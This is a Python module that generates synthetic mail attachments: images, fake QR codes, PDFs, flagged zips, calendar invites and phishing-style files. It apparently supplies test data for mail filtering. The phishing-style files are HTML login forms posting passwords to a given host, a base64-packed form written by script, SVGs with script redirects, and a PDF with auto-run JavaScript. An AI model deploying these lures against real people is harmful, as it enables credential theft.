"""What hangs on the mails: pictures, QR-like squares, PDF, archives, pages, invitations.  SPDX-License-Identifier: GPL-3.0-or-later"""
import base64
import io
import struct
import zipfile
import zlib


def png(rows, scale=1):
    """A grey picture of rows of 0 (black) and 1 (white), each dot scale pixels wide and high."""
    width, height = len(rows[0]) * scale, len(rows) * scale
    raw = b"".join((b"\0" + bytes(255 * dot for dot in row for _ in range(scale))) * scale for row in rows)

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def banner(draw, width=120, height=60, scale=4):
    """A picture of bars: what stands for a whole mail painted as one image."""
    bars = [draw.number(2) for _ in range(height // 6)]
    return png([[bars[y // 6 % len(bars)] if 8 < x < width - 8 else 1 for x in range(width)] for y in range(height)], scale)


def qr_rows(draw, size=29):
    """Dots that look like a QR code (finder squares and noise); it says nothing."""
    rows = [[draw.number(2) for _ in range(size)] for _ in range(size)]
    for top, left in ((0, 0), (0, size - 7), (size - 7, 0)):
        for y in range(-1, 8):
            for x in range(-1, 8):
                if 0 <= top + y < size and 0 <= left + x < size:
                    ring = max(abs(y - 3), abs(x - 3))
                    rows[top + y][left + x] = 0 if ring in (0, 1, 3) else 1
    return [[1] * (size + 4)] * 2 + [[1, 1, *row, 1, 1] for row in rows] + [[1] * (size + 4)] * 2


def qr_png(draw, scale=8):
    return png(qr_rows(draw), scale)


def qr_blocks(draw):
    """The same of block characters, for mails that paint it in text."""
    rows = qr_rows(draw, 21)
    return "\n".join("".join("██" if dot == 0 else "  " for dot in row) for row in rows)


def qr_table(draw):
    """The same of table cells."""
    cells = "".join("<tr>" + "".join(f'<td width=5 height=5 bgcolor={"#000000" if dot == 0 else "#ffffff"}></td>' for dot in row) + "</tr>\n"
                    for row in qr_rows(draw, 21))
    return f"<table cellpadding=0 cellspacing=0>{cells}</table>"


def pdf(lines, link=None, javascript=False):
    """A one-page PDF with these lines and one link over the page."""
    text = "BT /F1 14 Tf 60 760 Td 20 TL " + " ".join(f"({line.encode('latin-1', 'replace').decode('latin-1')}) Tj T*" for line in lines) + " ET"
    objects = ["<< /Type /Catalog /Pages 2 0 R" + (" /OpenAction 6 0 R" if javascript else "") + " >>",
               "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
               + (f" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI ({link}) >> >>]" if link else "") + " >>",
               f"<< /Length {len(text.encode('latin-1'))} >>\nstream\n{text}\nendstream",
               "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    if javascript:
        objects.append("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    out, places = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{one}\nendobj\n".encode("latin-1")
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(f"{place:010d} 00000 n \n" for place in places)
    return out + f"{table}trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n".encode()


def archive(names_and_data, encrypted=False):
    """A zip; encrypted ones have the flag set and noise for content, which is all that can be seen without the password."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in names_and_data:
            target.writestr(zipfile.ZipInfo(name, (2026, 1, 5, 9, 30, 0)), data)
    data = bytearray(buffer.getvalue())
    if encrypted:
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(mark)
            while at >= 0:
                data[at + place] |= 1
                at = data.find(mark, at + 4)
    return bytes(data)


def html_login(title, host, rcpt):
    """A page that asks for a password, as hung on mails; where it would send it does not exist."""
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title><style>body{{font-family:Segoe UI}}form{{width:340px;margin:80px auto}}</style></head>
<body><form action="https://{host}/post.php" method="post"><h2>{title}</h2><p>Session expired. Sign in again to view the document.</p>
<input name="u" type="email" value="{rcpt}" readonly><br><input name="p" type="password" placeholder="Password"><br><button>Sign in</button></form></body></html>""".encode()


def html_packed(host, rcpt):
    """A page whose content is packed in base64 and written by a script."""
    packed = base64.b64encode(f"<form action=https://{host}/a><input type=password name=p><input type=hidden name=u value={rcpt}></form>".encode()).decode()
    return f"<html><body><script>document.write(atob('{packed}'));</script><noscript>Enable scripts to see the invoice.</noscript></body></html>".encode()


def svg_script(host, rcpt):
    packed = base64.b64encode(f"https://{host}/#{rcpt}".encode()).decode()
    return f"""<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="250"><rect width="100%" height="100%" fill="#fff"/>
<text x="20" y="40">Loading document</text><script><![CDATA[var u='{packed}';window.location.href=atob(u);]]></script></svg>""".encode()


def svg_link(host):
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300"><a xlink:href="https://{host}/view">
<rect width="600" height="300" fill="#0067b8"/><text x="60" y="150" fill="#fff">Open secured file</text></a></svg>""".encode()


def invitation(draw, organizer, rcpt, title, words, link):
    start = f"202601{10 + draw.number(18)}T{8 + draw.number(9):02d}0000Z"
    return "\r\n".join(["BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0", "METHOD:REQUEST",
                        "BEGIN:VEVENT",
                        f"DTSTART:{start}", f"DTEND:{start}", f"UID:{draw.letters(26)}@google.com",
                        f"ORGANIZER;CN={organizer}:mailto:{organizer}",
                        f"ATTENDEE;RSVP=TRUE:mailto:{rcpt}", f"SUMMARY:{title}", f"DESCRIPTION:{words}\\n{link}", "BEGIN:VALARM",
                        "ACTION:DISPLAY",
                        "TRIGGER:-P0DT0H10M0S", "END:VALARM", "END:VEVENT", "END:VCALENDAR", ""]).encode()
